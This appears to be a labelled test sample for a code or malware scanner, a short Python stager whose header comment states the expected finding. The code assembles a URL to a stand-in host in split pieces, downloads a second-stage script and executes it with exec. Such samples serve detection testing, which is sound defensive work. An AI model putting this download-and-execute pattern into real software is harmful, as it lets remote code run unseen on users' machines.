# expect: network; downloads Python source from a remote host and executes it (stager)
from urllib.request import urlopen

STAGE2 = "http://" + "cdn-update" + ".example.net" + ":8000/s2.py"
source = urlopen(STAGE2).read().decode()
exec(compile(source, "<stage2>", "exec"), {"__name__": "__main__"})
